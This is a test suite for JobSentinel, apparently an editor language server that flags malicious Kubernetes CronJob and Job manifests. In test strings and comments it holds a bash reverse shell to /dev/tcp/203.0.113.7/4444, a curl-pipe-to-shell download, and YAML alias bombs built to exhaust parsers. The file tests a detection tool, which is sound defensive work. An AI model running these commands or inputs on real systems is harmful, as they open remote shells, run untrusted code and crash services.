import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import {
  CodeActionRequest,
  DiagnosticSeverity,
  DiagnosticTag,
  DidChangeWatchedFilesNotification,
  FileChangeType,
  HoverRequest,
  LSPErrorCodes,
  type CodeAction,
  type Diagnostic,
  type MarkupContent,
  type TextEdit,
} from 'vscode-languageserver-protocol/node.js';
import { applyTextEdits, LspSession, ROOT } from './session.js';

const FIXTURES = join(ROOT, 'test/fixtures/editor');
const cronJob = await readFile(join(FIXTURES, 'reverse-shell-cronjob.yaml'), 'utf8');
const deployment = await readFile(join(FIXTURES, 'deployment.yaml'), 'utf8');
const DOCS = 'https://github.com/jobsentinel/jobsentinel/blob/main/docs/indicators.md';

function byCode(diagnostics: Diagnostic[], code: string): Diagnostic {
  const found = diagnostics.find((diagnostic) => diagnostic.code === code);
  assert.ok(found, `expected a ${code} diagnostic, got: ${diagnostics.map((d) => d.code ?? d.message).join(', ')}`);
  return found;
}

/** The findings, without the faded hints (tagged Unnecessary) that show suppressed ones. */
function active(diagnostics: Diagnostic[]): Diagnostic[] {
  return diagnostics.filter((diagnostic) => !diagnostic.tags?.includes(DiagnosticTag.Unnecessary));
}

function at(line: number, character: number) {
  return { line, character };
}

/** The next publication for `uri` after the `seen` ones already recorded. */
function nextPublication(session: LspSession, uri: string, seen: number) {
  return session.waitFor(`a new publication for ${uri}`, () => session.published.filter((params) => params.uri === uri)[seen]);
}

function publicationsOf(session: LspSession, uri: string): number {
  return session.published.filter((params) => params.uri === uri).length;
}

async function quickFixes(session: LspSession, uri: string, diagnostic: Diagnostic): Promise<CodeAction[]> {
  const result = await session.connection.sendRequest(CodeActionRequest.type, {
    textDocument: { uri },
    range: diagnostic.range,
    context: { diagnostics: [diagnostic], only: ['quickfix'] },
  });
  return (result ?? []) as CodeAction[];
}

/** Applies a code action's edit like an editor does and sends the new text as a full-content change. */
async function applyAction(session: LspSession, uri: string, text: string, action: CodeAction): Promise<string> {
  const change = action.edit?.documentChanges?.[0];
  assert.ok(change && 'edits' in change, `${action.title}: expected a text document edit`);
  assert.equal(change.textDocument.uri, uri);
  assert.equal(change.textDocument.version, session.version(uri), 'the edit is for the version the editor has');
  const edited = applyTextEdits(text, change.edits as TextEdit[]);
  await session.change(uri, [{ text: edited }]);
  return edited;
}

describe('language server over stdio', () => {
  let session: LspSession;
  before(async () => {
    session = await LspSession.start();
  });
  after(async () => {
    await session.stop();
  });

  it('flags a malicious CronJob with exact ranges, indicator codes, documentation links and configured severities', async () => {
    const uri = 'file:///workspace/cronjob.yaml';
    await session.open(uri, cronJob);
    const { diagnostics } = await session.diagnosticsFor(uri);
    for (const diagnostic of diagnostics) {
      assert.equal(diagnostic.source, 'jobsentinel');
      assert.equal(diagnostic.codeDescription?.href, `${DOCS}#${diagnostic.code}`);
    }
    const privileged = byCode(diagnostics, 'privileged-container');
    // line 21 (1-based): `                privileged: true`, the value `true`
    assert.deepEqual(privileged.range, { start: at(20, 28), end: at(20, 32) });
    assert.equal(privileged.severity, DiagnosticSeverity.Error);
    assert.match(privileged.message, /privileged/);

    const hostNetwork = byCode(diagnostics, 'host-network');
    assert.deepEqual(hostNetwork.range, { start: at(11, 23), end: at(11, 27) });
    assert.equal(hostNetwork.severity, DiagnosticSeverity.Warning);

    const socket = byCode(diagnostics, 'sensitive-mount');
    assert.deepEqual(socket.range, { start: at(27, 22), end: at(27, 42) });
    assert.equal(cronJob.split('\n')[27].slice(22, 42), '/var/run/docker.sock');

    // The reverse shell, at its exact line: `                - bash -i >& /dev/tcp/203.0.113.7/4444 0>&1`
    const shell = byCode(diagnostics, 'shell-escape');
    assert.deepEqual(shell.range, { start: at(18, 18), end: at(18, 59) });
    assert.equal(shell.severity, DiagnosticSeverity.Error);

    const image = byCode(diagnostics, 'attacker-tooling');
    assert.equal(cronJob.split('\n')[image.range.start.line].slice(image.range.start.character, image.range.end.character), 'alpine:3.20');
    assert.equal(image.severity, DiagnosticSeverity.Information);
  });

  it('shows a suppressed finding as a faded hint that names what suppressed it; the findings not covered stay as they are', async () => {
    const uri = 'file:///workspace/suppressed.yaml';
    const text = cronJob
      .replace('              args:\n', '              args:\n                # jobsentinel-ignore: shell-escape -- a drill\n')
      .replace('  name: log-rotate\n', '  name: log-rotate\n  annotations:\n    jobsentinel.io/ignore: host-network\n');
    const commentLine = text.split('\n').findIndex((line) => line.includes('jobsentinel-ignore')) + 1;
    await session.open(uri, text);
    const { diagnostics } = await session.diagnosticsFor(uri);
    const hints = diagnostics.filter((diagnostic) => diagnostic.severity === DiagnosticSeverity.Hint);
    assert.deepEqual([...new Set(hints.map((hint) => `${hint.code} ${hint.tags}`))].sort(), [`host-network ${DiagnosticTag.Unnecessary}`, `shell-escape ${DiagnosticTag.Unnecessary}`]);
    const shell = hints.find((hint) => hint.code === 'shell-escape')!;
    assert.equal(shell.range.start.line, commentLine, 'the flagged line is the one below the comment');
    assert.match(shell.message, new RegExp(`^Suppressed by a jobsentinel-ignore comment at line ${commentLine} \\(error\\): `));
    assert.equal(text.split('\n')[shell.range.start.line].slice(shell.range.start.character, shell.range.end.character), 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1');
    assert.match(hints.find((hint) => hint.code === 'host-network')!.message, /^Suppressed by the jobsentinel\.io\/ignore annotation at line 6 \(warning\)/);
    // The others are findings as before, at their usual severities.
    assert.equal(byCode(diagnostics, 'privileged-container').severity, DiagnosticSeverity.Error);
    assert.ok(diagnostics.every((diagnostic) => diagnostic.severity === DiagnosticSeverity.Hint || !['shell-escape', 'host-network'].includes(String(diagnostic.code))));
  });

  it('leaves a Deployment alone, even one full of the same patterns', async () => {
    const uri = 'file:///workspace/deployment.yaml';
    await session.open(uri, deployment);
    const { diagnostics } = await session.diagnosticsFor(uri);
    assert.deepEqual(diagnostics, []);
  });

  it('checks JSON manifests too', async () => {
    const uri = 'file:///workspace/job.json';
    const json = JSON.stringify(
      { apiVersion: 'batch/v1', kind: 'Job', metadata: { name: 'j' }, spec: { template: { spec: { hostNetwork: true, containers: [{ name: 'c', image: 'registry.local/app:1' }] } } } },
      null,
      2,
    );
    await session.open(uri, json, 'json');
    const { diagnostics } = await session.diagnosticsFor(uri);
    const hostNetwork = byCode(diagnostics, 'host-network');
    const line = json.split('\n')[hostNetwork.range.start.line];
    assert.equal(line.slice(hostNetwork.range.start.character, hostNetwork.range.end.character), 'true');
  });

  it('shows YAML syntax errors in a CronJob file as jobsentinel diagnostics at the broken line', async () => {
    const uri = 'file:///workspace/broken.yaml';
    await session.open(uri, 'apiVersion: batch/v1\nkind: CronJob\nmetadata:\n  name: [unclosed\n');
    const { diagnostics } = await session.diagnosticsFor(uri);
    assert.equal(diagnostics.length, 1);
    assert.equal(diagnostics[0].source, 'jobsentinel');
    assert.equal(diagnostics[0].severity, DiagnosticSeverity.Error);
    assert.equal(diagnostics[0].range.start.line, 3);
  });

  it('explains a finding on hover: what was found, why it matters (T1053.007), false positives, how to suppress', async () => {
    const uri = 'file:///workspace/hover.yaml';
    await session.open(uri, cronJob);
    await session.diagnosticsFor(uri);
    const hover = await session.connection.sendRequest(HoverRequest.type, { textDocument: { uri }, position: at(20, 30) });
    assert.ok(hover, 'a hover on the flagged value');
    const text = (hover.contents as MarkupContent).value;
    assert.equal((hover.contents as MarkupContent).kind, 'markdown');
    assert.match(text, /Privileged container/);
    assert.match(text, /Container "rotate" runs privileged/);
    assert.match(text, /\[MITRE ATT&CK T1053\.007[^\]]*\]\(https:\/\/attack\.mitre\.org\/techniques\/T1053\/007\/\)/);
    assert.match(text, /False positives:\*\* Node agents/);
    assert.match(text, /# jobsentinel-ignore: privileged-container/);
    assert.match(text, /jobsentinel\.io\/ignore: "privileged-container"/);
    assert.deepEqual(hover.range, { start: at(20, 28), end: at(20, 32) });

    const nothing = await session.connection.sendRequest(HoverRequest.type, { textDocument: { uri }, position: at(3, 4) });
    assert.equal(nothing, null, 'no hover away from findings');
  });

  it('answers a client without markdown support in plain text', async () => {
    const plain = await LspSession.start({ capabilities: { textDocument: { hover: { contentFormat: ['plaintext'] } } } });
    try {
      const uri = 'file:///workspace/plain.yaml';
      await plain.open(uri, cronJob);
      await plain.diagnosticsFor(uri);
      const hover = await plain.connection.sendRequest(HoverRequest.type, { textDocument: { uri }, position: at(20, 30) });
      const contents = hover?.contents as MarkupContent;
      assert.equal(contents.kind, 'plaintext');
      assert.match(contents.value, /^JobSentinel: Privileged container \(privileged-container, error\)/);
      assert.match(contents.value, /MITRE ATT&CK T1053\.007, Scheduled Task\/Job: Container Orchestration Job \(https:\/\/attack\.mitre\.org\/techniques\/T1053\/007\/\)/);
      assert.doesNotMatch(contents.value, /\*\*|\]\(/, 'no markdown syntax');
    } finally {
      await plain.stop();
    }
  });

  it('fixes privileged: true with a quick fix, and the re-check drops the finding', async () => {
    const uri = 'file:///workspace/fix-privileged.yaml';
    await session.open(uri, cronJob);
    const privileged = byCode((await session.diagnosticsFor(uri)).diagnostics, 'privileged-container');
    const actions = await quickFixes(session, uri, privileged);
    const fix = actions.find((action) => action.title === 'Set privileged: false');
    assert.ok(fix, `offered: ${actions.map((action) => action.title).join('; ')}`);
    assert.equal(fix.kind, 'quickfix');
    assert.equal(fix.isPreferred, true);
    assert.deepEqual(fix.diagnostics, [privileged]);
    const edited = await applyAction(session, uri, cronJob, fix);
    assert.equal(edited.split('\n')[20], '                privileged: false');
    const { diagnostics } = await session.diagnosticsFor(uri, 2);
    assert.equal(active(diagnostics).filter((d) => d.code === 'privileged-container').length, 0);
    assert.ok(diagnostics.some((d) => d.code === 'host-network'), 'other findings stay');
  });

  it('removes the hostNetwork: true line', async () => {
    const uri = 'file:///workspace/fix-host-network.yaml';
    await session.open(uri, cronJob);
    const hostNetwork = byCode((await session.diagnosticsFor(uri)).diagnostics, 'host-network');
    const fix = (await quickFixes(session, uri, hostNetwork)).find((action) => action.title === 'Remove hostNetwork: true');
    assert.ok(fix);
    const edited = await applyAction(session, uri, cronJob, fix);
    assert.equal(edited, cronJob.replace('          hostNetwork: true\n', ''));
    const { diagnostics } = await session.diagnosticsFor(uri, 2);
    assert.equal(active(diagnostics).filter((d) => d.code === 'host-network').length, 0);
  });

  it('removes hostNetwork from JSON without breaking it', async () => {
    const uri = 'file:///workspace/fix-host-network.json';
    const json = JSON.stringify({ apiVersion: 'batch/v1', kind: 'Job', metadata: { name: 'j' }, spec: { template: { spec: { hostNetwork: true, containers: [] } } } });
    await session.open(uri, json, 'json');
    const hostNetwork = byCode((await session.diagnosticsFor(uri)).diagnostics, 'host-network');
    const actions = await quickFixes(session, uri, hostNetwork);
    assert.ok(!actions.some((action) => action.title.includes('# jobsentinel-ignore')), 'JSON has no comments');
    const fix = actions.find((action) => action.title === 'Remove hostNetwork: true');
    assert.ok(fix);
    const edited = await applyAction(session, uri, json, fix);
    assert.deepEqual(JSON.parse(edited).spec.template.spec, { containers: [] });
  });

  it('adds a # jobsentinel-ignore comment above the finding at its indentation', async () => {
    const uri = 'file:///workspace/fix-comment.yaml';
    await session.open(uri, cronJob);
    const socket = byCode((await session.diagnosticsFor(uri)).diagnostics, 'sensitive-mount');
    const actions = await quickFixes(session, uri, socket);
    assert.ok(actions.every((action) => action.title.includes('sensitive-mount')), 'only fixes for the problem asked about');
    const fix = actions.find((action) => action.title.includes('# jobsentinel-ignore'));
    assert.ok(fix);
    const edited = await applyAction(session, uri, cronJob, fix);
    const lines = edited.split('\n');
    assert.equal(lines[27], '                # jobsentinel-ignore: sensitive-mount');
    assert.equal(lines[28], '                path: /var/run/docker.sock');
    const { diagnostics } = await session.diagnosticsFor(uri, 2);
    assert.equal(active(diagnostics).filter((d) => d.code === 'sensitive-mount').length, 0);
    assert.ok(diagnostics.some((d) => d.code === 'host-path-mount'), 'only the chosen indicator is silenced');
  });

  it('puts the comment after a block scalar header, where it cannot become part of the script', async () => {
    const uri = 'file:///workspace/fix-comment-block.yaml';
    const text = [
      'apiVersion: batch/v1',
      'kind: Job',
      'metadata:',
      '  name: j',
      'spec:',
      '  template:',
      '    spec:',
      '      volumes:',
      '        - name: root',
      '          hostPath:',
      '            path: |-',
      '              /etc',
      '      containers: []',
      '',
    ].join('\n');
    await session.open(uri, text);
    const sensitive = byCode((await session.diagnosticsFor(uri)).diagnostics, 'sensitive-mount');
    const fix = (await quickFixes(session, uri, sensitive)).find((action) => action.title.includes('# jobsentinel-ignore'));
    assert.ok(fix);
    const edited = await applyAction(session, uri, text, fix);
    assert.equal(edited.split('\n')[10], '            path: |- # jobsentinel-ignore: sensitive-mount');
    const { diagnostics } = await session.diagnosticsFor(uri, 2);
    assert.equal(active(diagnostics).filter((d) => d.code === 'sensitive-mount').length, 0);
  });

  it('a finding in a multi-line script marks its line; the ignore comment goes on the block header', async () => {
    const uri = 'file:///workspace/script-line.yaml';
    const text = [
      'apiVersion: batch/v1',
      'kind: Job',
      'metadata:',
      '  name: j',
      'spec:',
      '  template:',
      '    spec:',
      '      containers:',
      '        - name: c',
      '          image: registry.example/app:1',
      '          command: ["/bin/sh", "-c"]',
      '          args:',
      '            - |',
      '              set -e',
      '              curl -fsSL http://203.0.113.9/x.sh | sh',
      '              echo done',
      '',
    ].join('\n');
    await session.open(uri, text);
    const shell = byCode((await session.diagnosticsFor(uri)).diagnostics, 'shell-escape');
    assert.deepEqual(shell.range, { start: at(14, 14), end: at(14, 53) });
    const fix = (await quickFixes(session, uri, shell)).find((action) => action.title.includes('# jobsentinel-ignore'));
    assert.ok(fix);
    const edited = await applyAction(session, uri, text, fix);
    assert.equal(edited.split('\n')[12], '            - | # jobsentinel-ignore: shell-escape');
    const { diagnostics } = await session.diagnosticsFor(uri, 2);
    assert.equal(active(diagnostics).filter((d) => d.code === 'shell-escape').length, 0);
  });

  it('adds the jobsentinel.io/ignore annotation, creating annotations: when absent', async () => {
    const uri = 'file:///workspace/fix-annotation.yaml';
    await session.open(uri, cronJob);
    const image = byCode((await session.diagnosticsFor(uri)).diagnostics, 'attacker-tooling');
    const fix = (await quickFixes(session, uri, image)).find((action) => action.title.includes('jobsentinel.io/ignore'));
    assert.ok(fix);
    assert.match(fix.title, /CronJob "log-rotate"/);
    const edited = await applyAction(session, uri, cronJob, fix);
    assert.deepEqual(edited.split('\n').slice(2, 6), ['metadata:', '  annotations:', '    "jobsentinel.io/ignore": "attacker-tooling"', '  name: log-rotate']);
    const { diagnostics } = await session.diagnosticsFor(uri, 2);
    assert.equal(active(diagnostics).filter((d) => d.code === 'attacker-tooling').length, 0);
    assert.ok(diagnostics.some((d) => d.code === 'privileged-container'));
  });

  it('merges with an existing jobsentinel.io/ignore annotation', async () => {
    const uri = 'file:///workspace/fix-annotation-merge.yaml';
    const text = cronJob.replace('  namespace: kube-system\n', '  namespace: kube-system\n  annotations:\n    jobsentinel.io/ignore: host-path-mount\n');
    await session.open(uri, text);
    const { diagnostics: before } = await session.diagnosticsFor(uri);
    assert.equal(active(before).filter((d) => d.code === 'host-path-mount').length, 0, 'the existing annotation works');
    const hostNetwork = byCode(before, 'host-network');
    const fix = (await quickFixes(session, uri, hostNetwork)).find((action) => action.title.includes('jobsentinel.io/ignore'));
    assert.ok(fix);
    const edited = await applyAction(session, uri, text, fix);
    assert.ok(edited.includes('    jobsentinel.io/ignore: "host-path-mount, host-network"\n'), edited);
    const { diagnostics } = await session.diagnosticsFor(uri, 2);
    assert.equal(active(diagnostics).filter((d) => d.code === 'host-network' || d.code === 'host-path-mount').length, 0);
  });

  it('adds the annotation inside JSON metadata', async () => {
    const uri = 'file:///workspace/fix-annotation.json';
    const json = JSON.stringify({ apiVersion: 'batch/v1', kind: 'Job', metadata: { name: 'j' }, spec: { template: { spec: { hostNetwork: true, containers: [] } } } }, null, 2);
    await session.open(uri, json, 'json');
    const hostNetwork = byCode((await session.diagnosticsFor(uri)).diagnostics, 'host-network');
    const fix = (await quickFixes(session, uri, hostNetwork)).find((action) => action.title.includes('jobsentinel.io/ignore'));
    assert.ok(fix);
    const edited = await applyAction(session, uri, json, fix);
    assert.deepEqual(JSON.parse(edited).metadata, { annotations: { 'jobsentinel.io/ignore': 'host-network' }, name: 'j' });
  });

  it('re-checks as the user types, publishing only the latest version of a burst of edits', async () => {
    const uri = 'file:///workspace/typing.yaml';
    await session.open(uri, cronJob);
    await session.diagnosticsFor(uri);
    // Five keystrokes at once: `privileged: true` becomes `privileged: false` one letter at a time.
    const line = 20;
    await session.change(uri, [{ range: { start: at(line, 28), end: at(line, 32) }, text: '' }]);
    for (const [index, letter] of [...'fals'].entries()) {
      await session.change(uri, [{ range: { start: at(line, 28 + index), end: at(line, 28 + index) }, text: letter }]);
    }
    await session.change(uri, [{ range: { start: at(line, 32), end: at(line, 32) }, text: 'e' }]);
    const final = session.version(uri);
    const { diagnostics } = await session.diagnosticsFor(uri, final);
    assert.equal(active(diagnostics).filter((d) => d.code === 'privileged-container').length, 0);
    const versions = session.published.filter((params) => params.uri === uri).map((params) => params.version);
    assert.deepEqual(versions, [1, final], 'stale runs were cancelled, not published');
  });

  it('answers a cancelled request with RequestCancelled', async () => {
    const uri = 'file:///workspace/cancel.yaml';
    await session.open(uri, cronJob);
    await session.diagnosticsFor(uri);
    // The request and its cancellation in one write, as a client does when the user moves on at once.
    const id = 'cancel-me';
    await session.sendRaw([
      { jsonrpc: '2.0', id, method: 'textDocument/hover', params: { textDocument: { uri }, position: at(20, 30) } },
      { jsonrpc: '2.0', method: '$/cancelRequest', params: { id } },
    ]);
    const response = await session.rawResponse(id);
    assert.equal(response.error?.code, LSPErrorCodes.RequestCancelled);
    assert.equal(response.result, undefined);
    const again = await session.connection.sendRequest(HoverRequest.type, { textDocument: { uri }, position: at(20, 30) });
    assert.ok(again, 'the next request is answered normally');
  });

  it('analyses texts sent by the client (the workspace export), listing only CronJob and Job files', async () => {
    const result = (await session.connection.sendRequest('jobsentinel/analyse', {
      documents: [
        { uri: 'file:///workspace/export/cronjob.yaml', text: cronJob },
        { uri: 'file:///workspace/export/deployment.yaml', text: deployment },
        { uri: 'file:///workspace/export/broken.yaml', text: 'kind: Job\nspec: [\n' },
      ],
    })) as { files: Array<{ uri: string; result: { findings: Array<{ indicator: string; range: unknown }>; errors: unknown[] } }> };
    assert.deepEqual(result.files.map((file) => file.uri), ['file:///workspace/export/cronjob.yaml', 'file:///workspace/export/broken.yaml']);
    assert.ok(result.files[0].result.findings.some((finding) => finding.indicator === 'privileged-container'));
    assert.equal(result.files[1].result.errors.length, 1);
    assert.deepEqual(await session.connection.sendRequest('jobsentinel/analyse', { documents: 'not a list' }), { files: [] });
  });

  it('logs a failing request to the client and keeps serving', async () => {
    const logged = session.logs.length;
    const result = await session.connection.sendRequest('textDocument/codeAction', { textDocument: { uri: 'file:///workspace/cronjob.yaml' }, range: null, context: null });
    assert.deepEqual(result, []);
    await session.waitFor('an error log', () => session.logs.slice(logged).find((message) => message.startsWith('jobsentinel: code action')));
  });
});

describe('hostile documents', () => {
  let session: LspSession;
  before(async () => {
    session = await LspSession.start();
  });
  after(async () => {
    await session.stop();
  });

  const hostile: Array<[string, string]> = [
    [
      'an alias bomb',
      'kind: CronJob\na: &a ["x","x","x","x","x","x","x","x","x"]\n' +
        Array.from({ length: 9 }, (_, i) => `${String.fromCharCode(98 + i)}: &${String.fromCharCode(98 + i)} [${Array(9).fill('*' + String.fromCharCode(97 + i)).join(',')}]`).join('\n') +
        '\n',
    ],
    ['10,000-deep flow nesting', 'kind: Job\nspec: ' + '['.repeat(10_000) + ']'.repeat(10_000) + '\n'],
    ['10,000-deep block nesting', 'kind: Job\n' + Array.from({ length: 10_000 }, (_, i) => ' '.repeat(i) + 'a:').join('\n') + ' x\n'],
    ['binary garbage', 'kind: CronJob\n' + String.fromCharCode(...Array.from({ length: 20_000 }, (_, i) => (i * 7919) % 65_536))],
    ['a 1 MB single line', 'kind: Job\nspec: "' + 'A'.repeat(1_000_000) + '"\n'],
  ];

  for (const [name, text] of hostile) {
    it(`survives ${name} and keeps answering`, async () => {
      const uri = `file:///workspace/hostile-${name.replace(/\W+/g, '-')}.yaml`;
      await session.open(uri, text);
      const { diagnostics } = await session.diagnosticsFor(uri);
      assert.ok(Array.isArray(diagnostics));
      assert.ok(session.alive, 'the server is still running');
      const hover = await session.connection.sendRequest(HoverRequest.type, { textDocument: { uri }, position: at(1, 3) });
      assert.ok(hover === null || typeof hover === 'object');
      const actions = await session.connection.sendRequest(CodeActionRequest.type, {
        textDocument: { uri },
        range: { start: at(0, 0), end: at(5, 0) },
        context: { diagnostics },
      });
      assert.ok(Array.isArray(actions));
    });
  }

  it('offers quick fixes in a CronJob that also carries an alias bomb, and answers', async () => {
    const uri = 'file:///workspace/hostile-cronjob-with-bomb.yaml';
    const levels = Array.from({ length: 4 }, (_, i) => `  l${i + 1}: &l${i + 1} [${Array(10).fill(`*l${i}`).join(', ')}]`);
    // go-yaml refuses the bomb (its alias-ratio guard), so it sits in a document of its own beside the CronJob.
    const text = `${cronJob}---\napiVersion: v1\nkind: ConfigMap\nx-bomb:\n  l0: &l0 [lol]\n${levels.join('\n')}\n`;
    await session.open(uri, text);
    const privileged = byCode((await session.diagnosticsFor(uri)).diagnostics, 'privileged-container');
    const actions = await quickFixes(session, uri, privileged);
    assert.ok(actions.some((action) => action.title === 'Set privileged: false'));
    assert.ok(session.alive);
  });

  it('still checks a real CronJob afterwards', async () => {
    const uri = 'file:///workspace/after-hostile.yaml';
    await session.open(uri, cronJob);
    const { diagnostics } = await session.diagnosticsFor(uri);
    byCode(diagnostics, 'privileged-container');
  });
});

describe('settings and .jobsentinel.yaml', () => {
  it('applies jobsentinel.severity from the editor and re-checks when it changes', async () => {
    const session = await LspSession.start({ settings: { severity: { 'host-network': 'hint' } } });
    try {
      const uri = 'file:///workspace/settings.yaml';
      await session.open(uri, cronJob);
      const first = await session.diagnosticsFor(uri);
      assert.equal(byCode(first.diagnostics, 'host-network').severity, DiagnosticSeverity.Hint);
      assert.ok(session.registrations.includes('workspace/didChangeConfiguration'));

      const seen = publicationsOf(session, uri);
      await session.changeSettings({ severity: { 'privileged-container': 'off' } });
      const { diagnostics } = await nextPublication(session, uri, seen);
      assert.equal(active(diagnostics).filter((d) => d.code === 'privileged-container').length, 0, 'severity off removes the diagnostic');
      assert.equal(byCode(diagnostics, 'host-network').severity, DiagnosticSeverity.Warning, 'back to the default');
    } finally {
      await session.stop();
    }
  });

  it('names a mistyped setting in a warning instead of ignoring it', async () => {
    const session = await LspSession.start({ settings: { severity: { 'privileged-containr': 'off' } } });
    try {
      const uri = 'file:///workspace/bad-settings.yaml';
      await session.open(uri, cronJob);
      byCode((await session.diagnosticsFor(uri)).diagnostics, 'privileged-container');
      const warning = await session.waitFor('a warning', () => session.messages.find((message) => message.includes('privileged-containr')));
      assert.match(warning, /did you mean "privileged-container"/);
    } finally {
      await session.stop();
    }
  });

  it('runs only the seed clauses with profile: seed, and honours jobsentinel.ignore entries', async () => {
    const text = cronJob.replace('          hostNetwork: true\n', '          hostNetwork: true\n          hostPID: true\n');
    const session = await LspSession.start({ settings: { profile: 'extended' } });
    try {
      const uri = 'file:///workspace/profile.yaml';
      await session.open(uri, text);
      byCode((await session.diagnosticsFor(uri)).diagnostics, 'host-pid');
      let seen = publicationsOf(session, uri);
      await session.changeSettings({ profile: 'seed' });
      let { diagnostics } = await nextPublication(session, uri, seen);
      assert.equal(active(diagnostics).filter((d) => d.code === 'host-pid').length, 0);
      byCode(diagnostics, 'host-network');

      seen = publicationsOf(session, uri);
      await session.changeSettings({ ignore: [{ indicators: ['attacker-tooling'], images: ['alpine:*'] }] });
      ({ diagnostics } = await nextPublication(session, uri, seen));
      assert.equal(active(diagnostics).filter((d) => d.code === 'attacker-tooling').length, 0);
      byCode(diagnostics, 'host-pid');
    } finally {
      await session.stop();
    }
  });

  it("reads the workspace's .jobsentinel.yaml, re-reads it when it changes, and lets settings override it", async () => {
    const workspace = await mkdtemp(join(tmpdir(), 'jobsentinel-lsp-'));
    const configFile = join(workspace, '.jobsentinel.yaml');
    await writeFile(configFile, 'severity:\n  privileged-container: off\n');
    const session = await LspSession.start({ workspaceFolder: workspace });
    try {
      const uri = pathToFileURL(join(workspace, 'jobs/cronjob.yaml')).href;
      await session.open(uri, cronJob);
      const first = await session.diagnosticsFor(uri);
      assert.equal(active(first.diagnostics).filter((d) => d.code === 'privileged-container').length, 0, 'the file switched it off');
      assert.ok(session.registrations.includes('workspace/didChangeWatchedFiles'));

      await writeFile(configFile, 'severity:\n  host-network: error\n');
      let seen = publicationsOf(session, uri);
      await session.connection.sendNotification(DidChangeWatchedFilesNotification.type, {
        changes: [{ uri: pathToFileURL(configFile).href, type: FileChangeType.Changed }],
      });
      let { diagnostics } = await nextPublication(session, uri, seen);
      byCode(diagnostics, 'privileged-container');
      assert.equal(byCode(diagnostics, 'host-network').severity, DiagnosticSeverity.Error);

      seen = publicationsOf(session, uri);
      await session.changeSettings({ severity: { 'host-network': 'information' } });
      ({ diagnostics } = await nextPublication(session, uri, seen));
      assert.equal(byCode(diagnostics, 'host-network').severity, DiagnosticSeverity.Information, 'settings win over the file');
    } finally {
      await session.stop();
      await rm(workspace, { recursive: true, force: true });
    }
  });

  it("ignores an untrusted workspace's .jobsentinel.yaml until the workspace is trusted", async () => {
    const workspace = await mkdtemp(join(tmpdir(), 'jobsentinel-lsp-'));
    // What a hostile repository would ship: a config that silences everything.
    await writeFile(join(workspace, '.jobsentinel.yaml'), 'ignore:\n  - images: ["*"]\n');
    const session = await LspSession.start({ workspaceFolder: workspace, initializationOptions: { workspaceTrusted: false } });
    try {
      const uri = pathToFileURL(join(workspace, 'cronjob.yaml')).href;
      await session.open(uri, cronJob);
      byCode((await session.diagnosticsFor(uri)).diagnostics, 'privileged-container');
      const seen = publicationsOf(session, uri);
      await session.connection.sendNotification('jobsentinel/workspaceTrusted');
      const { diagnostics } = await nextPublication(session, uri, seen);
      assert.deepEqual(active(diagnostics), [], 'once trusted, the config applies');
      assert.ok(diagnostics.some((diagnostic) => /^Suppressed by ignore entry \/ignore\/0 of the config file/.test(diagnostic.message)), 'what it suppresses is shown faded');
    } finally {
      await session.stop();
      await rm(workspace, { recursive: true, force: true });
    }
  });

  it('uses jobsentinel.configPath instead of the nearest .jobsentinel.yaml, and warns when it cannot be read', async () => {
    const workspace = await mkdtemp(join(tmpdir(), 'jobsentinel-lsp-'));
    await writeFile(join(workspace, '.jobsentinel.yaml'), 'severity:\n  host-network: off\n');
    await writeFile(join(workspace, 'team.yaml'), 'severity:\n  privileged-container: off\n');
    const session = await LspSession.start({ workspaceFolder: workspace, settings: { configPath: 'team.yaml' } });
    try {
      const uri = pathToFileURL(join(workspace, 'cronjob.yaml')).href;
      await session.open(uri, cronJob);
      const { diagnostics } = await session.diagnosticsFor(uri);
      assert.equal(active(diagnostics).filter((d) => d.code === 'privileged-container').length, 0, 'team.yaml applies');
      byCode(diagnostics, 'host-network');

      const seen = publicationsOf(session, uri);
      await session.changeSettings({ configPath: 'missing.yaml' });
      const after = await nextPublication(session, uri, seen);
      byCode(after.diagnostics, 'privileged-container');
      const warning = await session.waitFor('a warning', () => session.messages.find((message) => message.includes('missing.yaml')));
      assert.match(warning, /cannot read the config file/);
    } finally {
      await session.stop();
      await rm(workspace, { recursive: true, force: true });
    }
  });

  it('reports a broken config file as diagnostics on that file', async () => {
    const workspace = await mkdtemp(join(tmpdir(), 'jobsentinel-lsp-'));
    const configFile = join(workspace, '.jobsentinel.yaml');
    await writeFile(configFile, 'severity:\n  no-such-indicator: error\n');
    const session = await LspSession.start({ workspaceFolder: workspace });
    try {
      await session.open(pathToFileURL(join(workspace, 'cronjob.yaml')).href, cronJob);
      const configUri = pathToFileURL(configFile).href;
      const published = await session.waitFor('config diagnostics', () => session.published.find((params) => params.uri === configUri));
      assert.equal(published.diagnostics.length, 1);
      assert.equal(published.diagnostics[0].source, 'jobsentinel');
      assert.match(published.diagnostics[0].message, /no-such-indicator/);
    } finally {
      await session.stop();
      await rm(workspace, { recursive: true, force: true });
    }
  });
});
